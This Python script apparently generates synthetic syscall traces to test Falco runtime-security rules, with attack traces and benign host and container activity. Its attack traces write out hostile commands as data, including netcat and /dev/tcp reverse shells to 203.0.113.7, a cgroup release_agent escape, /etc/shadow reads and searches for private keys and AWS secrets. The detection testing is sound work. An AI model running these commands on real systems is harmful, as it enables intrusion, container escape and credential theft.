"""Generate the crafted syscall traces in testdata/: one attack trace per upstream Falco rule and a few traces
of ordinary host and container activity, each with an ``.expect.yaml`` naming the rules that must fire on it
(and how often). Run it from anywhere: ``python tests/runtime/traces/make_traces.py``; the output is checked in.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

OUT = Path(__file__).resolve().parent / "testdata"

T0 = 1_718_000_000_000_000_000  # 2024-06-10T06:13:20Z
SEC = 1_000_000_000
BOOT = T0 - 86_400 * SEC

ROOT = {"uid": 0, "name": "root", "homedir": "/root", "shell": "/bin/bash", "loginuid": -1}
ROOT_G = {"gid": 0, "name": "root"}
ALICE = {"uid": 1000, "name": "alice", "homedir": "/home/alice", "shell": "/bin/bash", "loginuid": 1000,
         "loginname": "alice"}
ALICE_G = {"gid": 1000, "name": "alice"}
WWW = {"uid": 33, "name": "www-data", "homedir": "/var/www", "shell": "/usr/sbin/nologin", "loginuid": 1000,
       "loginname": "alice"}
WWW_G = {"gid": 33, "name": "www-data"}

DEFAULT_CAPS = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID",
                "CAP_SETUID", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW", "CAP_SYS_CHROOT", "CAP_MKNOD",
                "CAP_AUDIT_WRITE", "CAP_SETFCAP"]
ALL_CAPS = [*DEFAULT_CAPS, "CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_PTRACE", "CAP_NET_ADMIN"]


def p(name: str, exepath: str, args: list[str], pid: int, *, exe: str | None = None, cwd: str = "/",
      start: int = T0 - 60 * SEC, **extra: Any) -> dict[str, Any]:
    out: dict[str, Any] = {"pid": pid, "name": name, "exe": exe if exe is not None else exepath,
                           "exepath": exepath, "args": args, "cwd": cwd, "tty": 0, "start_ts": start}
    out.update(extra)
    return out


# ancestry chains (parent first)
SYSTEMD = p("systemd", "/usr/lib/systemd/systemd", ["--system", "--deserialize", "31"], 1, start=BOOT)
SSHD = p("sshd", "/usr/sbin/sshd", ["-D"], 812, start=BOOT + 5 * SEC, sid=812, vpgid=812)
SSHD_SESSION = p("sshd", "/usr/sbin/sshd", ["-D", "-R"], 40110, start=T0 - 600 * SEC, sid=40110)
ALICE_BASH = p("bash", "/usr/bin/bash", [], 40120, exe="-bash", cwd="/home/alice/", tty=34816, sid=40120,
               vpgid=40120, start=T0 - 590 * SEC)
HOST_SHELL = [ALICE_BASH, SSHD_SESSION, SSHD, SYSTEMD]
CRON = p("cron", "/usr/sbin/cron", ["-f"], 700, start=BOOT + 3 * SEC)

CONTAINERD_SHIM = p("containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                    ["-namespace", "k8s.io", "-id", "3ad7b26ded6d"], 2210, start=T0 - 3600 * SEC)
RUNC_INIT = p("runc:[1:CHILD]", "/usr/bin/runc", ["init"], 2230, start=T0 - 3600 * SEC)


def container(cid: str, name: str, image: str, **extra: Any) -> dict[str, Any]:
    out = {"id": cid, "full_id": cid + "8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e"[: 64 - len(cid)],
           "name": name, "image": image, "type": "containerd", "privileged": False, "start_ts": T0 - 3600 * SEC}
    out.update(extra)
    return out


WEB = container("3ad7b26ded6d", "web", "docker.io/library/nginx:1.25.3")
APP = container("9f1c2d3e4b5a", "api", "ghcr.io/acme/api:2.4.1")
PRIV = container("77aa88bb99cc", "node-debugger", "docker.io/library/ubuntu:22.04", privileged=True)
K8S_WEB = {"ns_name": "shop", "pod_name": "web-6d4cf56db6-5xk2q", "pod_uid": "3e41dc6b-08a8-44db-bc2a-3724b18ab19a",
           "pod_labels": {"app": "web"}}
K8S_APP = {"ns_name": "shop", "pod_name": "api-7b9d8c6f5-q2wlz", "pod_uid": "5a0e1c77-2b1d-4c4e-9d8e-6f1f0a3b2c1d"}

# container processes (vpid inside the container)
NGINX_MASTER = p("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], 2240, vpid=1, sid=1, vpgid=1,
                 start=T0 - 3600 * SEC)
NGINX_WORKER = p("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"], 2251, vpid=29, sid=1, vpgid=1,
                 start=T0 - 3590 * SEC)
WEB_CHAIN = [NGINX_MASTER, CONTAINERD_SHIM, SYSTEMD]
API_PY = p("python3", "/usr/bin/python3.11", ["-m", "api.server"], 3100, exe="python3", vpid=1, cwd="/srv/",
           sid=1, vpgid=1, start=T0 - 3500 * SEC)
API_CHAIN = [API_PY, CONTAINERD_SHIM, SYSTEMD]


class Trace:
    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []
        self.ts = T0

    def add(self, etype: str, proc: dict[str, Any], ancestors: list[dict[str, Any]], *, res: int = 0,
            args: dict[str, Any] | None = None, fd: dict[str, Any] | None = None,
            user: dict[str, Any] | None = None, group: dict[str, Any] | None = None,
            cont: dict[str, Any] | None = None, k8s: dict[str, Any] | None = None,
            caps: list[str] | None = None, **extra: Any) -> dict[str, Any]:
        self.ts += 1_000_000  # 1 ms apart
        proc = dict(proc)
        proc.setdefault("cap_effective", caps if caps is not None else (DEFAULT_CAPS if cont else ALL_CAPS))
        proc.setdefault("cap_permitted", proc["cap_effective"])
        ev: dict[str, Any] = {"ts": self.ts, "type": etype, "num": len(self.events) + 1, "res": res,
                              "hostname": "node-1"}
        if args is not None:
            ev["args"] = args
        ev["proc"] = proc
        ev["ancestors"] = ancestors
        ev["user"] = user if user is not None else ROOT
        ev["group"] = group if group is not None else ROOT_G
        if fd is not None:
            ev["fd"] = fd
        if cont is not None:
            ev["container"] = cont
        if k8s is not None:
            ev["k8s"] = k8s
        ev.update(extra)
        self.events.append(ev)
        return ev

    def exec(self, proc: dict[str, Any], ancestors: list[dict[str, Any]], **kw: Any) -> dict[str, Any]:
        proc = dict(proc)
        proc.setdefault("start_ts", self.ts + 500_000)
        args: dict[str, Any] = {"exe": proc.get("exe"), "args": " ".join(proc.get("args", []))}
        if "exe_flags" in kw:
            args["flags"] = kw.pop("exe_flags")
        return self.add("execve", proc, ancestors, args=args, **kw)


def write(name: str, trace: Trace, expect: dict[str, int], note: str) -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    with (OUT / f"{name}.jsonl").open("w") as fh:
        for ev in trace.events:
            fh.write(json.dumps(ev, separators=(",", ":")) + "\n")
    lines = [f"# {note}", "rules:" if expect else "rules: {}"]
    lines += [f"  {json.dumps(rule)}: {count}" for rule, count in sorted(expect.items())]
    (OUT / f"{name}.expect.yaml").write_text("\n".join(lines) + "\n")


# ---------------------------------------------------------------------------------------------------------------
# attack traces, one per upstream rule


def attacks() -> None:
    t = Trace()
    php = p("php-fpm8.2", "/usr/sbin/php-fpm8.2", [], 5120, exe="php-fpm: pool www", cwd="/var/www/html/", vpid=41)
    php_master = p("php-fpm8.2", "/usr/sbin/php-fpm8.2", ["--nodaemonize"], 5100, vpid=1)
    # no fd object: fd.name/fd.nameraw are derived from args.name and the cwd
    t.add("openat", php, [php_master, CONTAINERD_SHIM, SYSTEMD], res=7, user=WWW, group=WWW_G,
          args={"dirfd": -100, "name": "../../../etc/passwd", "flags": "O_RDONLY|O_CLOEXEC", "mode": 0},
          cont=container("5c5c5c5c5c5c", "shop-php", "docker.io/library/php:8.2-fpm"), k8s=K8S_WEB)
    write("attack-directory-traversal", t, {"Directory traversal monitored file read": 1},
          "a PHP worker reads /etc/passwd through ../ (path traversal)")

    t = Trace()
    t.add("openat", NGINX_WORKER, WEB_CHAIN, res=9, cont=WEB, k8s=K8S_WEB,
          args={"dirfd": -100, "name": "/etc/shadow", "flags": "O_RDONLY", "mode": 0},
          fd={"num": 9, "type": "file", "name": "/etc/shadow"})
    write("attack-read-sensitive-trusted", t,
          {"Read sensitive file trusted after startup": 1, "Read sensitive file untrusted": 1},
          "a long-running nginx worker opens /etc/shadow (also untrusted: nginx is not an expected reader)")

    t = Trace()
    cat = p("cat", "/usr/bin/cat", ["/etc/shadow"], 40200, cwd="/home/alice/", tty=34816, sid=40120, vpgid=40200)
    t.exec(cat, HOST_SHELL, user=ALICE, group=ALICE_G)
    t.add("openat", cat, HOST_SHELL, res=3, user=ALICE, group=ALICE_G,
          args={"dirfd": -100, "name": "/etc/shadow", "flags": ["O_RDONLY", "O_CLOEXEC"], "mode": 0})
    t.add("openat", cat, HOST_SHELL, res=-13, user=ALICE, group=ALICE_G,
          args={"dirfd": -100, "name": "/etc/sudoers", "flags": "O_RDONLY", "mode": 0})
    write("attack-read-sensitive-untrusted", t, {"Read sensitive file untrusted": 1},
          "cat opens /etc/shadow (succeeds) and /etc/sudoers (EACCES: not an open_read, no alert)")

    t = Trace()
    sh = p("sh", "/usr/bin/dash", ["-c", "id; uname -a"], 2260, exe="/bin/sh", vpid=31, sid=1, vpgid=1)
    t.exec(sh, [NGINX_WORKER, *WEB_CHAIN], cont=WEB, k8s=K8S_WEB)
    write("attack-run-shell-untrusted", t, {"Run shell untrusted": 1}, "nginx spawns a shell (RCE)")

    t = Trace()
    ls = p("ls", "/usr/bin/ls", ["-la", "/var/www"], 40300, cwd="/var/www/", tty=34817, sid=40290, vpgid=40300)
    www_bash = p("bash", "/usr/bin/bash", [], 40290, exe="-bash", tty=34817, sid=40290, vpgid=40290)
    t.exec(ls, [www_bash, SSHD_SESSION, SSHD, SYSTEMD], user=WWW, group=WWW_G)
    write("attack-system-user-interactive", t, {"System user interactive": 1},
          "www-data logs in over ssh and runs ls")

    t = Trace()
    bash = p("bash", "/usr/bin/bash", [], 2300, vpid=40, tty=34818, sid=40, vpgid=40)
    t.exec(bash, [RUNC_INIT, CONTAINERD_SHIM, SYSTEMD], cont=APP, k8s=K8S_APP)
    write("attack-terminal-shell-in-container", t, {"Terminal shell in container": 1},
          "kubectl exec -it api -- bash")

    t = Trace()
    curl = p("curl", "/usr/bin/curl", ["-sk", "https://kubernetes.default.svc.cluster.local/api"], 3150, vpid=12,
             sid=1, vpgid=12)
    t.exec(curl, API_CHAIN, cont=APP, k8s=K8S_APP)
    t.add("socket", curl, API_CHAIN, res=5, cont=APP, k8s=K8S_APP,
          args={"domain": "AF_INET", "type": "SOCK_STREAM", "proto": 0})
    t.add("connect", curl, API_CHAIN, res=-115, cont=APP, k8s=K8S_APP,
          args={"fd": 5, "addr": "10.96.0.1:443"},
          fd={"num": 5, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.17", "cport": 51544, "sip": "10.96.0.1",
              "sport": 443, "sip_name": "kubernetes.default.svc.cluster.local", "connected": True,
              "name_changed": True})
    write("attack-contact-k8s-api", t, {"Contact K8S API Server From Container": 1},
          "curl in an application container calls the Kubernetes API server (EINPROGRESS connect)")

    t = Trace()
    nc = p("nc", "/usr/bin/nc.traditional", ["-e", "/bin/sh", "203.0.113.7", "4444"], 3160, vpid=13)
    t.exec(nc, API_CHAIN, cont=APP, k8s=K8S_APP)
    write("attack-netcat-rce", t, {"Netcat Remote Code Execution in Container": 1}, "nc -e /bin/sh (reverse shell)")

    t = Trace()
    find = p("find", "/usr/bin/find", ["/", "-name", "id_rsa"], 40400, cwd="/home/alice/", tty=34816, sid=40120)
    t.exec(find, HOST_SHELL, user=ALICE, group=ALICE_G)
    grep = p("grep", "/usr/bin/grep", ["-rl", "BEGIN OPENSSH PRIVATE KEY", "/home"], 40401, tty=34816, sid=40120)
    t.exec(grep, HOST_SHELL, user=ALICE, group=ALICE_G)
    write("attack-search-private-keys", t, {"Search Private Keys or Passwords": 2},
          "find / -name id_rsa, then grep for private key headers")

    t = Trace()
    t.add("openat", cat, HOST_SHELL, res=4, args={"dirfd": -100, "name": "/var/log/auth.log",
                                                   "flags": "O_WRONLY|O_CREAT|O_TRUNC", "mode": 0o640})
    write("attack-clear-log", t, {"Clear Log Activities": 1}, "truncating /var/log/auth.log (> /var/log/auth.log)")

    t = Trace()
    shred = p("shred", "/usr/bin/shred", ["-u", "-z", "/srv/db/customers.db"], 40500, tty=34816, sid=40120)
    t.exec(shred, HOST_SHELL)
    write("attack-remove-bulk-data", t, {"Remove Bulk Data from Disk": 1}, "shred -u of a database file")

    t = Trace()
    ln = p("ln", "/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/s"], 40600, cwd="/tmp/", tty=34816, sid=40120)
    t.add("symlinkat", ln, HOST_SHELL, user=ALICE, group=ALICE_G,
          args={"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"})
    write("attack-symlink-sensitive", t, {"Create Symlink Over Sensitive Files": 1}, "ln -s /etc/shadow /tmp/s")

    t = Trace()
    ln2 = p("ln", "/usr/bin/ln", ["/etc/shadow", "/tmp/h"], 40610, cwd="/tmp/", tty=34816, sid=40120)
    t.add("linkat", ln2, HOST_SHELL, args={"olddirfd": -100, "oldpath": "/etc/shadow", "newdirfd": -100,
                                            "newpath": "/tmp/h", "flags": 0})
    write("attack-hardlink-sensitive", t, {"Create Hardlink Over Sensitive Files": 1}, "ln /etc/shadow /tmp/h")

    t = Trace()
    scapy = p("python3", "/usr/bin/python3.11", ["arpspoof.py"], 3170, exe="python3", vpid=14)
    t.add("socket", scapy, API_CHAIN, res=6, cont=APP, k8s=K8S_APP,
          args={"domain": "AF_PACKET", "type": "SOCK_RAW", "proto": 768},
          fd={"num": 6, "type": "unknown", "name": ""})
    write("attack-packet-socket", t, {"Packet socket created in container": 1}, "AF_PACKET socket (ARP spoofing)")

    t = Trace()
    rsh = p("bash", "/usr/bin/bash", ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], 3180, vpid=15)
    sock = {"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.17", "cport": 40112,
            "sip": "203.0.113.7", "sport": 4444, "connected": True}
    for newfd in (0, 1, 2):
        t.add("dup2", rsh, API_CHAIN, res=newfd, cont=APP, k8s=K8S_APP, args={"oldfd": 3, "newfd": newfd},
              fd=sock)
    write("attack-redirect-stdio", t, {"Redirect STDOUT/STDIN to Network Connection in Container": 3},
          "a reverse shell dups its socket onto stdin, stdout and stderr")

    t = Trace()
    insmod = p("insmod", "/usr/sbin/insmod", ["rootkit.ko"], 3300, vpid=20)
    t.add("finit_module", insmod, [p("bash", "/usr/bin/bash", [], 3290, vpid=19), RUNC_INIT, CONTAINERD_SHIM],
          res=0, cont=PRIV, caps=ALL_CAPS, args={"fd": 3, "uargs": "", "flags": 0})
    write("attack-kernel-module", t, {"Linux Kernel Module Injection Detected": 1},
          "insmod from a privileged container")

    t = Trace()
    debugfs = p("debugfs", "/usr/sbin/debugfs", ["-w", "/dev/sda1"], 3310, vpid=21)
    t.exec(debugfs, [p("bash", "/usr/bin/bash", [], 3290, vpid=19), RUNC_INIT], cont=PRIV, caps=ALL_CAPS)
    write("attack-debugfs", t, {"Debugfs Launched in Privileged Container": 1}, "debugfs in a privileged container")

    t = Trace()
    echo = p("sh", "/usr/bin/dash", ["-c", "echo /cmd > /tmp/cgrp/release_agent"], 3320, exe="sh", vpid=22)
    t.add("openat", echo, [RUNC_INIT, CONTAINERD_SHIM], res=3, cont=PRIV, caps=ALL_CAPS,
          args={"dirfd": -100, "name": "/tmp/cgrp/release_agent", "flags": "O_WRONLY|O_CREAT|O_TRUNC", "mode": 0o666})
    write("attack-release-agent", t, {"Detect release_agent File Container Escapes": 1},
          "writing a cgroup v1 release_agent from a container with CAP_SYS_ADMIN")

    t = Trace()
    gdb = p("gdb", "/usr/bin/gdb", ["-p", "812"], 40700, tty=34816, sid=40120)
    t.add("ptrace", gdb, HOST_SHELL, args={"request": "PTRACE_ATTACH", "pid": 812, "addr": 0, "data": 0})
    t.add("ptrace", gdb, HOST_SHELL, args={"request": "PTRACE_POKETEXT", "pid": 812, "addr": 4198400, "data": 0})
    write("attack-ptrace-attach", t, {"PTRACE attached to process": 2}, "gdb attaches to sshd and pokes its text")

    t = Trace()
    mal = p("kdevtmpfsi", "/tmp/kdevtmpfsi", [], 40800, cwd="/tmp/")
    t.add("ptrace", mal, [CRON, SYSTEMD], args={"request": "PTRACE_TRACEME", "pid": 0, "addr": 0, "data": 0})
    write("attack-ptrace-traceme", t, {"PTRACE anti-debug attempt": 1}, "malware calls ptrace(PTRACE_TRACEME)")

    t = Trace()
    grep2 = p("grep", "/usr/bin/grep", ["-ri", "aws_secret_access_key", "/"], 3330, vpid=23, cwd="/srv/")
    t.exec(grep2, API_CHAIN, cont=APP, k8s=K8S_APP)
    write("attack-find-aws-credentials", t, {"Find AWS Credentials": 1}, "grep for AWS secret keys")

    t = Trace()
    shm = p("x", "/dev/shm/x", [], 40900, exe="/dev/shm/x", cwd="/dev/shm/")
    t.exec(shm, [CRON, SYSTEMD])
    write("attack-exec-dev-shm", t, {"Execution from /dev/shm": 1}, "a binary dropped in /dev/shm runs (host)")

    t = Trace()
    drop = p("xmrig", "/tmp/xmrig", ["-o", "pool.example:3333"], 3340, vpid=24, cwd="/tmp/", start=T0,
             is_exe_upper_layer=True, is_exe_writable=True, exe_ino=91823, exe_ino_ctime=T0 - 30 * SEC,
             exe_ino_mtime=T0 - 30 * SEC)
    t.exec(drop, API_CHAIN, cont=APP, k8s=K8S_APP, exe_flags="EXE_WRITABLE|EXE_UPPER_LAYER")
    write("attack-drop-and-execute", t, {"Drop and execute new binary in container": 1},
          "a binary written into the container's upper layer runs")

    t = Trace()
    ssh = p("ssh", "/usr/bin/ssh", ["-R", "8080:localhost:22", "-p", "443", "tunnel@198.51.100.20"], 41000,
            tty=34816, sid=40120)
    t.add("connect", ssh, HOST_SHELL, res=0, user=ALICE, group=ALICE_G, args={"fd": 3, "addr": "198.51.100.20:443"},
          fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "192.168.1.50", "cport": 53312,
              "sip": "198.51.100.20", "sport": 443, "connected": True})
    write("attack-ssh-non-standard-port", t, {"Disallowed SSH Connection Non Standard Port": 1},
          "ssh reverse tunnel to a public host on port 443")

    t = Trace()
    memfd = p("kworker", "memfd:payload", [], 41100, exe="/proc/self/fd/3", is_exe_from_memfd=True)
    t.exec(memfd, [p("python3", "/usr/bin/python3.11", ["loader.py"], 41090, exe="python3"), CRON, SYSTEMD])
    write("attack-fileless-memfd", t, {"Fileless execution via memfd_create": 1},
          "a loader execs a payload from a memfd")


# ---------------------------------------------------------------------------------------------------------------
# ordinary activity: no upstream rule may fire


def normal_host() -> None:
    t = Trace()
    login = p("bash", "/usr/bin/bash", [], 40120, exe="-bash", cwd="/home/alice/", tty=34816, sid=40120,
              vpgid=40120)
    t.exec(login, [SSHD_SESSION, SSHD, SYSTEMD], user=ALICE, group=ALICE_G)
    for name, path, args, opens in [
        ("ls", "/usr/bin/ls", ["-la"], ["/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libselinux.so.1"]),
        ("cat", "/usr/bin/cat", ["/etc/hosts"], ["/etc/hosts"]),
        ("grep", "/usr/bin/grep", ["-rn", "TODO", "src/"], ["src/main.c", "src/util.c"]),
        ("find", "/usr/bin/find", [".", "-name", "*.py"], []),
        ("vim", "/usr/bin/vim.basic", ["notes.txt"], ["notes.txt"]),
    ]:
        proc = p(name, path, args, 40130 + len(t.events), cwd="/home/alice/", tty=34816, sid=40120)
        t.exec(proc, HOST_SHELL, user=ALICE, group=ALICE_G)
        for f in opens:
            t.add("openat", proc, HOST_SHELL, res=3, user=ALICE, group=ALICE_G,
                  args={"dirfd": -100, "name": f, "flags": "O_RDONLY|O_CLOEXEC", "mode": 0})
        t.add("procexit", proc, HOST_SHELL, user=ALICE, group=ALICE_G, args={"status": 0})
    # an editor saves a file; a missing config file is probed
    vim = p("vim", "/usr/bin/vim.basic", ["notes.txt"], 40190, cwd="/home/alice/", tty=34816, sid=40120)
    t.add("openat", vim, HOST_SHELL, res=4, user=ALICE, group=ALICE_G,
          args={"dirfd": -100, "name": "notes.txt", "flags": "O_WRONLY|O_CREAT|O_TRUNC", "mode": 0o644})
    t.add("openat", vim, HOST_SHELL, res=-2, user=ALICE, group=ALICE_G,
          args={"dirfd": -100, "name": "/etc/vim/vimrc.local", "flags": "O_RDONLY", "mode": 0})
    # curl to ordinary HTTPS, ssh to github on 22
    curl = p("curl", "/usr/bin/curl", ["-sO", "https://example.org/file.tar.gz"], 40200, tty=34816, sid=40120)
    t.exec(curl, HOST_SHELL, user=ALICE, group=ALICE_G)
    t.add("socket", curl, HOST_SHELL, res=3, user=ALICE, group=ALICE_G,
          args={"domain": "AF_INET", "type": "SOCK_STREAM", "proto": 6})
    t.add("connect", curl, HOST_SHELL, res=0, user=ALICE, group=ALICE_G, args={"fd": 3},
          fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "192.168.1.50", "cport": 40022,
              "sip": "93.184.215.14", "sport": 443, "sip_name": "example.org", "connected": True})
    ssh = p("ssh", "/usr/bin/ssh", ["git@github.com", "git-upload-pack 'acme/repo.git'"], 40210, tty=34816,
            sid=40120)
    t.add("connect", ssh, HOST_SHELL, res=0, user=ALICE, group=ALICE_G, args={"fd": 3},
          fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "192.168.1.50", "cport": 40100,
              "sip": "140.82.121.4", "sport": 22, "connected": True})
    # a DNS query over UDP to the local resolver
    t.add("sendto", curl, HOST_SHELL, res=35, user=ALICE, group=ALICE_G, args={"fd": 4, "size": 35},
          fd={"num": 4, "type": "ipv4", "l4proto": "udp", "cip": "127.0.0.1", "cport": 51000,
              "sip": "127.0.0.53", "sport": 53, "connected": False, "name_changed": True})
    # sshd reads the shadow file to authenticate, long after it started
    t.add("openat", SSHD_SESSION, [SSHD, SYSTEMD], res=5,
          args={"dirfd": -100, "name": "/etc/shadow", "flags": "O_RDONLY|O_CLOEXEC", "mode": 0})
    # cron runs a daily job through sh
    job = p("sh", "/usr/bin/dash", ["-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"],
            41000, exe="/bin/sh")
    t.exec(job, [CRON, SYSTEMD])
    logrotate = p("logrotate", "/usr/sbin/logrotate", ["/etc/logrotate.conf"], 41010)
    t.exec(logrotate, [job, CRON, SYSTEMD])
    t.add("openat", logrotate, [job, CRON, SYSTEMD], res=6,
          args={"dirfd": -100, "name": "/var/log/syslog.1", "flags": "O_WRONLY|O_CREAT|O_APPEND", "mode": 0o640})
    # sudo on the host by alice (sudo reads /etc/sudoers: it is an expected reader)
    sudo = p("sudo", "/usr/bin/sudo", ["systemctl", "restart", "nginx"], 41020, tty=34816, sid=40120)
    t.exec(sudo, HOST_SHELL, user=ROOT, group=ROOT_G)
    t.add("openat", sudo, HOST_SHELL, res=3, args={"dirfd": -100, "name": "/etc/sudoers", "flags": "O_RDONLY"})
    t.add("clone", sudo, HOST_SHELL, res=41021, args={"flags": "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID"})
    # a symlink and a hard link of ordinary files; a ptrace by a debugger on alice's own program
    t.add("symlinkat", login, HOST_SHELL, user=ALICE, group=ALICE_G,
          args={"target": "/home/alice/notes.txt", "linkdirfd": -100, "linkpath": "/home/alice/n"})
    t.add("ptrace", login, HOST_SHELL, user=ALICE, group=ALICE_G,
          args={"request": "PTRACE_GETREGS", "pid": 40200, "addr": 0, "data": 0})
    write("normal-host", t, {}, "an interactive ssh session, cron, sudo and a few network calls on a host")


def normal_containers() -> None:
    t = Trace()
    # nginx serves: reads its config and content, appends to its access log
    for name in ("/etc/nginx/nginx.conf", "/usr/share/nginx/html/index.html"):
        t.add("openat", NGINX_WORKER, WEB_CHAIN, res=10, cont=WEB, k8s=K8S_WEB,
              args={"dirfd": -100, "name": name, "flags": "O_RDONLY|O_NONBLOCK|O_CLOEXEC", "mode": 0})
    t.add("openat", NGINX_WORKER, WEB_CHAIN, res=11, cont=WEB, k8s=K8S_WEB,
          args={"dirfd": -100, "name": "/var/log/nginx/access.log", "flags": "O_WRONLY|O_CREAT|O_APPEND",
                "mode": 0o644})
    t.add("accept4", NGINX_WORKER, WEB_CHAIN, res=12, cont=WEB, k8s=K8S_WEB, args={"fd": 6, "flags": 0},
          fd={"num": 12, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.2.9", "cport": 51234, "sip": "10.244.1.12",
              "sport": 80, "is_server": True, "connected": True})
    # the container's entrypoint shell, without a terminal
    entry = p("sh", "/usr/bin/dash", ["-c", "./start.sh"], 3400, exe="/bin/sh", vpid=1, cwd="/srv/")
    t.exec(entry, [RUNC_INIT, CONTAINERD_SHIM, SYSTEMD], cont=APP, k8s=K8S_APP)
    t.exec(API_PY, [entry, CONTAINERD_SHIM, SYSTEMD], cont=APP, k8s=K8S_APP)
    # the API connects to its database and to an external API, pipes through dup2
    t.add("connect", API_PY, API_CHAIN, res=0, cont=APP, k8s=K8S_APP, args={"fd": 7},
          fd={"num": 7, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.17", "cport": 44000, "sip": "10.96.14.3",
              "sport": 5432, "sip_name": "postgres.shop.svc.cluster.local", "connected": True})
    t.add("connect", API_PY, API_CHAIN, res=-115, cont=APP, k8s=K8S_APP, args={"fd": 8},
          fd={"num": 8, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.17", "cport": 44002,
              "sip": "198.51.100.80", "sport": 443, "connected": False})
    t.add("connect", API_PY, API_CHAIN, res=0, cont=APP, k8s=K8S_APP, args={"fd": 9},
          fd={"num": 9, "type": "unix", "name": "/var/run/app/metrics.sock"})
    t.add("dup2", API_PY, API_CHAIN, res=1, cont=APP, k8s=K8S_APP, args={"oldfd": 5, "newfd": 1},
          fd={"num": 5, "type": "pipe", "name": "pipe:[77121]"})
    t.add("socket", API_PY, API_CHAIN, res=10, cont=APP, k8s=K8S_APP,
          args={"domain": "AF_INET6", "type": "SOCK_DGRAM", "proto": 17})
    # a liveness probe runs wget; a worker process forks and exits
    probe = p("wget", "/usr/bin/wget", ["-qO-", "http://127.0.0.1:8080/healthz"], 3500, vpid=60,
              is_container_liveness_probe=True)
    t.exec(probe, [RUNC_INIT, CONTAINERD_SHIM, SYSTEMD], cont=APP, k8s=K8S_APP)
    t.add("clone", API_PY, API_CHAIN, res=3510, cont=APP, k8s=K8S_APP, args={"flags": "CLONE_VM|CLONE_FS"})
    t.add("procexit", probe, [RUNC_INIT, CONTAINERD_SHIM, SYSTEMD], cont=APP, k8s=K8S_APP, args={"status": 0})
    # writes inside the container's own data directory; a file in the image's lower layer runs
    t.add("openat", API_PY, API_CHAIN, res=11, cont=APP, k8s=K8S_APP,
          args={"dirfd": -100, "name": "cache/session.db", "flags": "O_RDWR|O_CREAT", "mode": 0o600})
    gunicorn = p("gunicorn", "/usr/local/bin/gunicorn", ["api:app"], 3520, exe="/usr/local/bin/python3", vpid=70,
                 is_exe_upper_layer=False)
    t.exec(gunicorn, API_CHAIN, cont=APP, k8s=K8S_APP)
    write("normal-containers", t, {}, "nginx and a Python API container at work, with a liveness probe")


def main() -> None:
    attacks()
    normal_host()
    normal_containers()


if __name__ == "__main__":
    main()
